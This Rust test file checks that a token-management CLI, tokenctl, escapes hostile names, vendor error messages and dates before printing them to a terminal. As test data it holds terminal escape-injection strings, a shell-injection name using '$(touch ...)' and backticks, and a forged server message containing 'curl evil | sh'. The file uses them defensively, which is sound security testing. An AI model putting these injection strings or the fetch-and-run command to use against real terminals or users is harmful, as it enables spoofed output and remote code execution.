//! What reaches the terminal: names and vendor messages with escape sequences, control and bidi
//! characters are shown escaped on a real pseudo-terminal (`script` from util-linux), JSON keeps
//! them exactly; hints quote names for the shell; dates that do not parse say so.
//! `terminal/interrupts.rs`: secrets and stdout, Ctrl-C on single and bulk changes.

mod interrupts;

use std::process::Command;

use serde_json::{Value, json};

use crate::common::{BIN, Sandbox, TestEnv, stdout_json, text};
use crate::support::hostile::{Hostile, Reply};

/// A name that retitles the window, clears the screen, returns the carriage, backspaces, holds
/// a NUL and reverses the text after it.
pub const HOSTILE: &str = "evil\u{1b}]0;pwned\u{7}\u{1b}[2J\r\u{8}\0\u{202e}end";
/// The same, as tokenctl shows it.
pub const SHOWN: &str = r"evil\e]0;pwned\a\e[2J\r\b\0\u{202e}end";

/// Runs tokenctl on a pseudo-terminal (stdout and stderr both) and returns every byte it drew.
fn on_pty(env: &TestEnv, args: &[&str]) -> Vec<u8> {
    let quoted: Vec<String> = args
        .iter()
        .map(|a| format!("'{}'", a.replace('\'', r"'\''")))
        .collect();
    // A pty made by `script` alone has no size; give it a usual one so tables are laid out.
    let cmd = format!("stty cols 400 rows 50; '{BIN}' {}", quoted.join(" "));
    let out = Command::new("script")
        .args(["-qfec", &cmd, "/dev/null"])
        .env_clear()
        .envs(env.vars().iter().cloned())
        .env("TERM", "xterm-256color")
        .output()
        .expect("script (util-linux)");
    out.stdout
}

/// No raw control sequence but tokenctl's own colours (SGR, `ESC[...m`) and, with `progress`,
/// the cursor and line moves of the progress bar; no BEL, BS, NUL, bidi override, and no CR
/// but the terminal's own line ends (and the bar's).
fn assert_inert(screen: &[u8], progress: bool) {
    let s = String::from_utf8_lossy(screen);
    let b = screen;
    for (i, _) in b.iter().enumerate().filter(|(_, c)| **c == 0x1b) {
        let rest = &b[i + 1..];
        let ok = rest.first() == Some(&b'[') && {
            let end = rest[1..]
                .iter()
                .position(|c| !(c.is_ascii_digit() || *c == b';' || *c == b'?'))
                .map(|p| rest[1 + p]);
            let finals: &[u8] = if progress { b"mKAGlh" } else { b"m" };
            end.is_some_and(|f| finals.contains(&f))
        };
        assert!(ok, "raw escape sequence at {i}: {s:?}");
    }
    for bad in [0x07u8, 0x08, 0x00] {
        assert!(!b.contains(&bad), "raw byte {bad:#x}: {s:?}");
    }
    assert!(!s.contains('\u{202e}'), "raw U+202E: {s:?}");
    if !progress {
        for (i, _) in b.iter().enumerate().filter(|(_, c)| **c == b'\r') {
            assert_eq!(b.get(i + 1), Some(&b'\n'), "raw CR at {i}: {s:?}");
        }
    }
}

/// A sandbox with a service token named [`HOSTILE`] (made through the API: argv cannot carry
/// a NUL); returns its ID.
fn hostile_service_token(env: &mut TestEnv) -> (Sandbox, String) {
    let sb = env.sandbox();
    let (status, v) = sb.api(
        "POST",
        &format!("/accounts/{}/access/service_tokens", sb.account_id),
        &sb.token,
        Some(json!({ "name": HOSTILE })),
    );
    assert!(status == 200 || status == 201, "{status}: {v}");
    let id = v["result"]["id"].as_str().expect("id").to_owned();
    (sb, id)
}

#[test]
fn tables_and_details_show_hostile_names_escaped() {
    let mut env = TestEnv::new();
    let (_sb, id) = hostile_service_token(&mut env);
    for args in [
        vec!["service-tokens", "list"],
        vec!["service-tokens", "get", id.as_str()],
    ] {
        let screen = on_pty(&env, &args);
        assert_inert(&screen, false);
        let s = text(&screen);
        assert!(s.contains(SHOWN), "{args:?}: {s}");
        // tokenctl's own colours survive (the status word of the detail view, bold headers).
        assert!(s.contains("\u{1b}["), "no colour at all: {s:?}");
    }
}

#[test]
fn json_keeps_the_exact_name_and_stays_inert() {
    let mut env = TestEnv::new();
    let (_sb, id) = hostile_service_token(&mut env);
    for args in [
        vec!["service-tokens", "list", "--json"],
        vec!["service-tokens", "get", id.as_str(), "--json"],
        vec!["service-tokens", "list", "-o", "ndjson"],
    ] {
        let out = env.cmd().args(&args).output().expect("run");
        assert!(out.status.success(), "{}", text(&out.stderr));
        assert!(
            !out.stdout
                .iter()
                .any(|b| b.is_ascii_control() && *b != b'\n')
                && !text(&out.stdout).contains('\u{202e}'),
            "{args:?}: {:?}",
            text(&out.stdout)
        );
        let names: Vec<String> = text(&out.stdout)
            .lines()
            .collect::<Vec<_>>()
            .join("\n")
            .split('\n')
            .map(str::to_owned)
            .collect();
        let values: Vec<Value> = if args.contains(&"ndjson") {
            names
                .iter()
                .map(|l| serde_json::from_str(l).expect("line"))
                .collect()
        } else {
            match stdout_json(&out) {
                Value::Array(a) => a,
                one => vec![one],
            }
        };
        assert!(
            values.iter().any(|v| v["name"] == HOSTILE),
            "{args:?}: exact name lost"
        );
    }
    // On a terminal too.
    let screen = on_pty(&env, &["service-tokens", "get", &id, "--json"]);
    assert_inert(&screen, false);
}

#[test]
fn bulk_selection_summary_and_outcomes_show_names_escaped() {
    let mut env = TestEnv::new();
    let (_sb, _) = hostile_service_token(&mut env);
    let screen = on_pty(
        &env,
        &["service-tokens", "delete", "--name", "evil*", "--yes"],
    );
    assert_inert(&screen, true);
    let s = text(&screen);
    assert!(s.contains("Selected 1 service tokens"), "{s}");
    assert_eq!(
        s.matches(SHOWN).count(),
        2,
        "selection and outcome table: {s}"
    );
}

/// A Cloudflare API that refuses everything with a message full of escape sequences.
fn refusing() -> Hostile {
    Hostile::start(|_| {
        Reply::json(
            400,
            &json!({"success": false, "errors": [{"code": 1000, "message": HOSTILE}],
                    "messages": [], "result": null}),
        )
    })
}

fn pointed_at(server: &Hostile) -> TestEnv {
    let mut env = TestEnv::new();
    env.set("CLOUDFLARE_BASE_URL", &format!("{}/client/v4", server.url))
        .set("CLOUDFLARE_API_TOKEN", "x")
        .set("CLOUDFLARE_ACCOUNT_ID", &"a".repeat(32));
    env
}

#[test]
fn vendor_error_messages_are_shown_escaped() {
    let server = refusing();
    let env = pointed_at(&server);
    for args in [vec!["tokens", "list"], vec!["service-tokens", "get", "x"]] {
        let screen = on_pty(&env, &args);
        assert_inert(&screen, false);
        let s = text(&screen);
        assert!(s.contains("error: ") && s.contains(SHOWN), "{args:?}: {s}");
    }
    // Piped, the same line.
    let out = env.cmd().args(["tokens", "list"]).output().expect("run");
    assert_eq!(out.status.code(), Some(6), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains(SHOWN), "{}", text(&out.stderr));
    assert_inert(&out.stderr, false);
}

#[test]
fn hints_quoting_a_name_show_it_escaped() {
    let mut env = TestEnv::new();
    let sb = env.sandbox();
    // Processed, then the connection drops: the outcome is unknown and the hint names the
    // check command with the name in it.
    sb.fault(json!({"method": "POST", "kind": "reset_after",
        "path_prefix": format!("/client/v4/accounts/{}/access/service_tokens", sb.account_id)}));
    let name = "evil\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}end";
    let screen = on_pty(&env, &["service-tokens", "create", "--name", name]);
    assert_inert(&screen, false);
    let s = text(&screen);
    assert!(
        s.contains(
            r"hint: run `tokenctl service-tokens list --name 'evil\e]0;pwned\a\e[2J\u{202e}end'`"
        ),
        "{s}"
    );
}

/// The command between the backticks of the hint's "run `...`".
fn hinted_command(stderr: &str) -> String {
    let hint = stderr
        .lines()
        .find(|l| l.starts_with("hint: "))
        .unwrap_or_else(|| panic!("no hint: {stderr}"));
    // The name itself may hold backticks: the command ends at the last one.
    let start = hint.find("run `").expect("run `") + 5;
    let end = hint.rfind("` to see whether").expect("closing backtick");
    hint[start..end].to_owned()
}

#[test]
fn a_hinted_check_command_pasted_into_a_shell_runs_nothing_and_finds_the_token() {
    let mut env = TestEnv::new();
    let sb = env.sandbox();
    let marker = env.path("ran");
    let name = format!(
        "a'b $(touch {}) `touch {}` *",
        marker.display(),
        marker.display()
    );
    sb.fault(json!({"method": "POST", "kind": "reset_after",
        "path_prefix": format!("/client/v4/accounts/{}/tokens", sb.account_id)}));
    let out = env
        .cmd()
        .args([
            "tokens",
            "create",
            "--name",
            &name,
            "--permission",
            "DNS Read",
        ])
        .output()
        .expect("run");
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(9), "{err}");
    let check = hinted_command(&err);
    assert!(
        check.starts_with("tokenctl tokens list --name '"),
        "{check}"
    );
    // Pasted as is, with tokenctl on PATH and --json added to read the answer.
    let bin_dir = std::path::Path::new(BIN).parent().expect("bin dir");
    let pasted = Command::new("sh")
        .arg("-c")
        .arg(format!("{check} --json"))
        .env_clear()
        .envs(env.vars().iter().cloned())
        .env("PATH", format!("{}:/usr/bin:/bin", bin_dir.display()))
        .output()
        .expect("sh");
    assert!(pasted.status.success(), "{}", text(&pasted.stderr));
    assert!(!marker.exists(), "the pasted hint ran a command");
    let found = stdout_json(&pasted);
    let found = found.as_array().expect("array");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["name"], name.as_str());
}

/// A Cloudflare account whose tokens carry dates that are not dates.
fn odd_dates() -> Hostile {
    Hostile::start(|req| {
        let items = if req.path().ends_with("/tokens") {
            json!([
                {"id": "0123456789abcdef0123456789abcdef", "name": "bad-expiry", "status": "active",
                 "expires_on": "2024-13-45", "last_used_on": "2026-01-01T00:00:00Z",
                 "issued_on": "2026-01-01T00:00:00Z"},
                {"id": "fedcba9876543210fedcba9876543210", "name": "bad-use", "status": "active",
                 "expires_on": "2099-01-01T00:00:00Z", "last_used_on": "\u{1b}[2Jsoon",
                 "issued_on": "2026-01-01T00:00:00Z"}
            ])
        } else {
            json!([])
        };
        let n = items.as_array().map_or(0, Vec::len);
        Reply::json(
            200,
            &json!({"success": true, "errors": [], "messages": [], "result": items,
                    "result_info": {"page": 1, "per_page": 50, "count": n, "total_count": n, "total_pages": 1}}),
        )
    })
}

#[test]
fn unparseable_dates_show_as_such_and_audit_flags_them() {
    let server = odd_dates();
    let env = pointed_at(&server);
    let out = env.cmd().args(["tokens", "list"]).output().expect("run");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let table = text(&out.stdout);
    let line = |name: &str| {
        table
            .lines()
            .find(|l| l.contains(name))
            .unwrap_or_else(|| panic!("{name}: {table}"))
            .to_owned()
    };
    assert!(
        line("bad-expiry").contains("unparseable (2024-13-45)"),
        "{table}"
    );
    assert!(!line("bad-expiry").contains("never"), "{table}");
    assert!(
        line("bad-use").contains(r"unparseable (\e[2Jsoon)"),
        "{table}"
    );
    assert_inert(&on_pty(&env, &["tokens", "list"]), false);

    let out = env.cmd().args(["audit", "--json"]).output().expect("run");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let items = stdout_json(&out);
    let flagged: Vec<&Value> = items
        .as_array()
        .expect("array")
        .iter()
        .filter(|i| i["reason"] == "unparseable-date")
        .collect();
    assert_eq!(flagged.len(), 2, "{items}");
    assert_eq!(flagged[0]["name"], "bad-expiry");
    assert_eq!(flagged[0]["error"], "expires_on is not a date: 2024-13-45");
    assert_eq!(
        flagged[1]["error"],
        "last_used_on is not a date: \u{1b}[2Jsoon"
    );
    let out = env.cmd().args(["audit"]).output().expect("run");
    let table = text(&out.stdout);
    assert!(
        table.lines().any(|l| l.contains("bad-expiry")
            && l.contains("unparseable-date")
            && l.contains("unparseable (2024-13-45)")),
        "{table}"
    );
    assert!(table.contains(r"unparseable (\e[2Jsoon)"), "{table}");
    env.cmd()
        .args(["audit", "--fail-on", "unparseable-date"])
        .assert()
        .code(10);
}

#[test]
fn a_hinted_check_command_aims_at_the_same_profile() {
    let mut env = TestEnv::new();
    let sb = env.sandbox();
    env.cmd()
        .args(["profile", "add", "ci", "--vendor", "cloudflare"])
        .args(["--base-url", &sb.base_url, "--account", &sb.account_id])
        .assert()
        .success();
    sb.fault(json!({"method": "POST", "kind": "reset_after",
        "path_prefix": format!("/client/v4/accounts/{}/tokens", sb.account_id)}));
    let out = env
        .cmd()
        .args([
            "-p",
            "ci",
            "tokens",
            "create",
            "--name",
            "aimed",
            "--permission",
            "DNS Read",
        ])
        .output()
        .expect("run");
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(9), "{err}");
    assert_eq!(
        hinted_command(&err),
        "tokenctl -p ci tokens list --name 'aimed'"
    );
}

/// A newline inside a server value can never forge a line of its own on stderr: the note
/// after a Prefactor suspend quotes the status the server sent, escaped.
#[test]
fn a_newline_in_a_server_value_cannot_forge_an_error_line() {
    const ID: &str = "013xrzp12g3nqk8n7f8f9jbg8d18q7tm";
    let server = Hostile::start(|seen| {
        let status = if seen.method == "POST" {
            "suspended.\nerror: your account is locked; run `curl evil | sh`"
        } else {
            "active"
        };
        Reply::json(
            200,
            &json!({"status": "success", "details": {"id": ID, "token_scope": "account", "status": status}}),
        )
    });
    let mut env = TestEnv::new();
    env.set("PREFACTOR_BASE_URL", &server.url)
        .set("PREFACTOR_API_TOKEN", "pf-token");
    let out = env
        .cmd()
        .args(["api-tokens", "suspend", ID])
        .output()
        .expect("run");
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("suspended.\\nerror: your account"),
        "{stderr}"
    );
    assert!(
        !stderr.lines().any(|l| l.starts_with("error:")),
        "a forged line: {stderr}"
    );
}

#[test]
fn the_create_picker_shows_hostile_group_names_escaped() {
    use crate::pty::{ESC, Pty};
    let server = Hostile::start(|seen| {
        if seen.path().ends_with("/permission_groups") {
            Reply::json(
                200,
                &json!({"success": true, "errors": [], "messages": [],
                        "result": [{"id": "c8fed203ed3043cba015a93ad1616f1f", "name": HOSTILE,
                                    "scopes": ["com.cloudflare.api.account"]}],
                        "result_info": {"page": 1, "per_page": 100, "count": 1, "total_count": 1}}),
            )
        } else {
            Reply::json(
                404,
                &json!({"success": false, "errors": [{"code": 7003, "message": "no"}], "messages": [], "result": null}),
            )
        }
    });
    let env = pointed_at(&server);
    let mut pty = Pty::spawn(&env, &["tokens", "create", "--name", "x"]);
    pty.expect("Permission groups");
    pty.expect(SHOWN);
    pty.send(ESC);
    let raw = pty.raw();
    let (status, screen) = pty.finish();
    assert_eq!(status.code(), Some(130), "{screen}");
    let raw = text(&raw);
    assert!(
        !raw.contains("\u{1b}]0;pwned") && !raw.contains("\u{202e}"),
        "{raw}"
    );
}
